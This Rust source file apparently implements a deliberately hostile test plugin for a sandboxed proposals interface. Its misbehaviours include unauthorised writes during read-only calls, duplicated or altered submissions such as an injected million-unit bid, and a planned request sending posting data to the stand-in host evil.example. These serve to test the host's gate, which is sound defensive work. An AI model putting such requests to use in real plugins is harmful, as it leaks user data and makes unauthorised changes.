//! The optional `proposals`: the setting `behaviour` says what goes wrong. What each request came to stands in `sent`, in the state.

use crate::bindings::ghoststack::prospector::http::{self, Request, Response};
use crate::bindings::ghoststack::prospector::planning::{Plan, PlannedRequest, Problem, Way};
use crate::bindings::ghoststack::prospector::state;
use crate::bindings::ghoststack::prospector::types::{Attribute, Delivery, Error, ErrorKind, Method, UtcSeconds};
use crate::settings::text;
use crate::{Hostile, misbehave};

mod bindings {
    #![allow(missing_docs, unsafe_code, unused, clippy::all, clippy::pedantic)]
    wit_bindgen::generate!({
        world: "ghoststack:prospector/opt-proposals",
        path: "../../../wit",
        pub_export_macro: true,
        with: {
            "ghoststack:prospector/types@0.1.0": crate::bindings::ghoststack::prospector::types,
            "ghoststack:prospector/planning@0.1.0": crate::bindings::ghoststack::prospector::planning,
        },
    });
}

use bindings::exports::ghoststack::prospector::proposals::{
    Change, Draft, Guest, Proposal, ProposalPage, ProposalStatus, Requirements,
};

impl Guest for Hostile {
    fn requirements_of(settings: Vec<Attribute>, posting: String) -> Result<Requirements, Error> {
        perhaps_write(&settings, "requirements-write", &posting)?;
        Ok(Requirements {
            text_minimum: 0,
            text_maximum: 1000,
            forbids_contact_details: false,
            amount_required: false,
            currency: None,
            milestones: false,
            questions: Vec::new(),
            attributes: Vec::new(),
        })
    }

    fn preview(settings: Vec<Attribute>, change: Change) -> Result<Plan, Error> {
        let draft = draft(change);
        let behaviour = text(&settings, "behaviour");
        misbehave::perhaps(behaviour.strip_prefix("preview-").unwrap_or_default());
        let mut problems = Vec::new();
        let mut reference = None;
        if let Some(rehearsal) = behaviour.strip_prefix("rehearse") {
            let (field, posting) = match rehearsal {
                "-another" => ("preview", "another".to_owned()),
                "-submit" => ("submit", draft.posting.clone()),
                _ => ("preview", draft.posting.clone()),
            };
            let times = if rehearsal == "-often" { 6 } else { 1 };
            let answers = (0..times).map(|_| noted(rehearse(field, &posting)));
            if let Some(Err(error)) = answers.last() {
                problems.push(problem(&error));
            }
            reference = Some(if rehearsal == "-invented" { "invented".to_owned() } else { "preview-1".to_owned() });
        }
        if behaviour == "preview-writes"
            && let Err(error) = noted(http::fetch(&request(planned("", &draft))))
        {
            problems.push(problem(&error));
        }
        Ok(Plan {
            problems,
            costs: Vec::new(),
            way: match behaviour.strip_prefix("hand-over ") {
                Some("here") => Way::HandOver(format!("{}/apply", http::origin("api").unwrap_or_default())),
                Some(page) => Way::HandOver(page.to_owned()),
                None => Way::Send(planned(&behaviour, &draft)),
            },
            reference,
            shown_after: if behaviour == "preview-for-ever" { u32::MAX } else { 60 },
            notes: Vec::new(),
        })
    }

    fn perform(settings: Vec<Attribute>, change: Change, _: Option<String>) -> Result<Proposal, Error> {
        let draft = draft(change);
        let behaviour = text(&settings, "behaviour");
        let planned = planned(&behaviour, &draft);
        let at = |path: &str| format!("{}{path}", http::origin("api").unwrap_or_default());
        let done = match behaviour.as_str() {
            "perform-nothing" => Ok(()),
            "perform-another" => send(PlannedRequest { url: at("/write/another"), ..planned }),
            "perform-elsewhere" => send(PlannedRequest { url: at("/write/other-path"), ..planned }),
            "perform-more" => {
                let body = planned.body.clone().map(|body| body.replace('}', r#","bid":1000000}"#));
                send(PlannedRequest { body, ..planned })
            }
            "perform-put" => send(PlannedRequest { method: Method::Put, ..planned }),
            "perform-twice" => send(planned.clone()).and_then(|()| send(planned)),
            "perform-and-another" => {
                send(planned.clone()).and_then(|()| send(PlannedRequest { url: at("/write/another"), ..planned }))
            }
            "perform-and-trap" => {
                let _ = send(planned);
                misbehave::perhaps("trap");
                Ok(())
            }
            _ => send(planned),
        };
        done?;
        let posting = if behaviour == "answer-another" { "another".to_owned() } else { draft.posting };
        Ok(found(posting))
    }

    fn look_up(settings: Vec<Attribute>, posting: String) -> Result<Option<Proposal>, Error> {
        perhaps_write(&settings, "look-up-writes", &posting)?;
        Ok((text(&settings, "behaviour") == "look-up-another").then(|| found("another".to_owned())))
    }

    fn changes(settings: Vec<Attribute>, _: Option<String>, _: UtcSeconds) -> Result<ProposalPage, Error> {
        perhaps_write(&settings, "changes-write", "job1")?;
        let many = if text(&settings, "behaviour") == "changes-many" { 101 } else { 1 };
        let proposals = (0..many).map(|_| found("job1".to_owned())).collect();
        Ok(ProposalPage { proposals, cursor: "1".to_owned(), more: false })
    }
}

fn draft(change: Change) -> Draft {
    match change {
        Change::Submit(draft) => draft,
        Change::Revise(revision) => revision.draft,
        Change::Withdraw(of) => Draft {
            posting: of.posting,
            text: String::new(),
            amount: None,
            duration_days: None,
            milestones: Vec::new(),
            answers: Vec::new(),
            attributes: Vec::new(),
        },
    }
}

fn found(posting: String) -> Proposal {
    Proposal {
        id: "p1".to_owned(),
        posting,
        status: ProposalStatus::Submitted,
        submitted_at: None,
        amount: None,
        url: None,
    }
}

/// The request of the plan, with what the behaviour spoils.
fn planned(behaviour: &str, draft: &Draft) -> PlannedRequest {
    let at = |path: &str| format!("{}{path}", http::origin("api").unwrap_or_default());
    let body = format!(r#"{{"posting":"{}"}}"#, draft.posting);
    let (method, url, body) = match behaviour {
        "plan-another" => (Method::Post, at("/write/another"), r#"{"posting":"another"}"#.to_owned()),
        "plan-read" => (Method::Post, at(&format!("/read/{}", draft.posting)), body),
        "plan-stray" => (Method::Post, format!("https://evil.example/write/{}", draft.posting), body),
        "plan-rubbish" => (Method::Post, "not a url".to_owned(), body),
        _ if behaviour.starts_with("rehearse") => {
            let query = r#"mutation($id: ID!) { submit(previewId: $id) { id } }"#;
            let id = if behaviour == "rehearse-invented" { "invented" } else { "preview-1" };
            (Method::Post, at("/graphql"), format!(r#"{{"query":"{query}","variables":{{"id":"{id}"}}}}"#))
        }
        _ => (Method::Post, at("/write/proposals"), body),
    };
    PlannedRequest { method, url, body: Some(body) }
}

fn request(planned: PlannedRequest) -> Request {
    Request {
        method: planned.method,
        url: planned.url,
        headers: Vec::new(),
        body: planned.body.map(String::into_bytes),
        credential: Some("account".to_owned()),
        timeout_ms: None,
    }
}

fn rehearse(field: &str, posting: &str) -> Result<Response, Error> {
    let url = format!("{}/graphql", http::origin("api").unwrap_or_default());
    let query = format!("mutation($p: ID!) {{ {field}(posting: $p) {{ id }} }}");
    let body = Some(format!(r#"{{"query":"{query}","variables":{{"p":"{posting}"}}}}"#));
    http::fetch(&request(PlannedRequest { method: Method::Post, url, body }))
}

fn send(planned: PlannedRequest) -> Result<(), Error> {
    let answer = noted(http::fetch(&request(planned)))?;
    if answer.status < 400 {
        return Ok(());
    }
    Err(Error {
        kind: if answer.status == 409 { ErrorKind::Conflict } else { ErrorKind::Unavailable },
        code: None,
        message: format!("the platform answered {}", answer.status),
        remedy: None,
        delivery: Delivery::Sent,
        retry_after: None,
    })
}

/// Notes what a request came to: the status, or the gate's rule.
fn noted(answer: Result<Response, Error>) -> Result<Response, Error> {
    let said = match &answer {
        Ok(response) => response.status.to_string(),
        Err(error) => error.code.clone().unwrap_or_else(|| format!("{:?}", error.kind)),
    };
    let before = state::get("sent").ok().flatten().map_or_else(Vec::new, |entry| entry.value);
    let _ = state::set("sent", &[before, format!("{said} ").into_bytes()].concat());
    answer
}

fn problem(error: &Error) -> Problem {
    let code = error.code.clone().unwrap_or_default();
    Problem { field: "text".to_owned(), message: format!("{code}: {}", error.message), blocking: false }
}

/// Tries to write where only reads pass.
fn perhaps_write(settings: &[Attribute], behaviour: &str, posting: &str) -> Result<(), Error> {
    if text(settings, "behaviour") != behaviour {
        return Ok(());
    }
    let url = format!("{}/write/proposals", http::origin("api").unwrap_or_default());
    let body = Some(format!(r#"{{"posting":"{posting}"}}"#));
    noted(http::fetch(&request(PlannedRequest { method: Method::Post, url, body }))).map(drop)
}

#[cfg(target_arch = "wasm32")]
#[allow(unsafe_code, missing_docs, clippy::all)]
mod exported {
    use super::{Hostile, bindings};
    bindings::export!(Hostile with_types_in bindings);
}
